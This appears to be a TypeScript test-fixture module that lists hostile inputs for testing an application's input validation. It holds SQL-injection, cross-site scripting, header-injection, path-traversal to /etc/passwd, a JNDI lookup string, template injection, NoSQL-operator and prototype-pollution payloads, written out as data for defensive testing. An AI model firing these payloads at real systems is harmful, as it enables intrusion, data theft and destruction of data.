/** A value that no honest page sends, and its description in the name of a test. */
export interface Hostile {
  readonly what: string;
  readonly value: unknown;
}

const deep = (levels: number): unknown => {
  let value: unknown = 1;
  for (let level = 0; level < levels; level += 1) value = { a: value };
  return value;
};

/** JSON.parse makes own properties of these names, which an object literal would not. */
const poisoned: unknown = JSON.parse(
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"toString":1}',
);

const strings: readonly Hostile[] = [
  { what: 'an empty text', value: '' },
  { what: 'spaces', value: '   ' },
  { what: 'SQL', value: "'; DROP TABLE student; --" },
  { what: 'SQL that is always true', value: "1' OR '1'='1" },
  { what: 'HTML', value: '<script>alert(1)</script><img src=x onerror=alert(1)>' },
  { what: 'NUL', value: 'a\u0000b' },
  { what: 'control characters', value: '\u0001\u0007\u001b[31m\u007f' },
  { what: 'half a character', value: '\ud800' },
  { what: 'line breaks for a header', value: 'a\r\nBcc: everybody@example.test' },
  { what: 'text that runs backwards', value: '\u202egnirts\u0000' },
  { what: 'a path', value: '../../../../etc/passwd' },
  { what: 'a template', value: `$\{jndi:ldap://example.test/a} {{7*7}} %s%n` },
  { what: 'a long text', value: 'x'.repeat(20_000) },
  { what: 'a text for a slow pattern', value: `${'a'.repeat(5_000)}@${'a.'.repeat(5_000)}` },
  { what: 'a number as text', value: '1e999' },
];

const numbers: readonly Hostile[] = [
  { what: 'zero', value: 0 },
  { what: 'a number below zero', value: -1 },
  { what: 'a fraction', value: 1.005 },
  { what: 'a number beyond every id', value: Number.MAX_SAFE_INTEGER + 2 },
  { what: 'a number beyond 32 bits', value: 2_147_483_648 },
  { what: 'a huge number', value: 1e308 },
  { what: 'a tiny number', value: 5e-324 },
];

const others: readonly Hostile[] = [
  { what: 'null', value: null },
  { what: 'true', value: true },
  { what: 'an empty list', value: [] },
  { what: 'a list', value: [1, 'two', null] },
  { what: 'an object', value: { $gt: '' } },
  { what: 'keys of prototypes', value: poisoned },
  { what: 'an object 2,000 levels deep', value: deep(2_000) },
];

export const hostileValues: readonly Hostile[] = [...strings, ...numbers, ...others];

/** The same as far as it can stand in a query. */
export const hostileTexts: readonly Hostile[] = [
  ...strings,
  ...numbers,
  { what: 'a word', value: 'undefined' },
];
